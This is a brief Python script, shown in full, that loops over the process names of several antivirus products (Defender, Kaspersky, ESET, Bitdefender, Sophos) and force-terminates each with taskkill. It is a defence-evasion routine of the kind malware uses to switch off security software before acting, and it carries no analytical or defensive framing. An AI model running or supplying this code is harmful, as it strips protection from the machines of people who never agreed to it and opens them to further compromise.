import subprocess

av = ["MsMpEng.exe", "avp.exe", "ekrn.exe", "bdagent.exe", "SavService.exe"]
for image in av:
    subprocess.call(f"taskkill /F /IM {image}", shell=True)
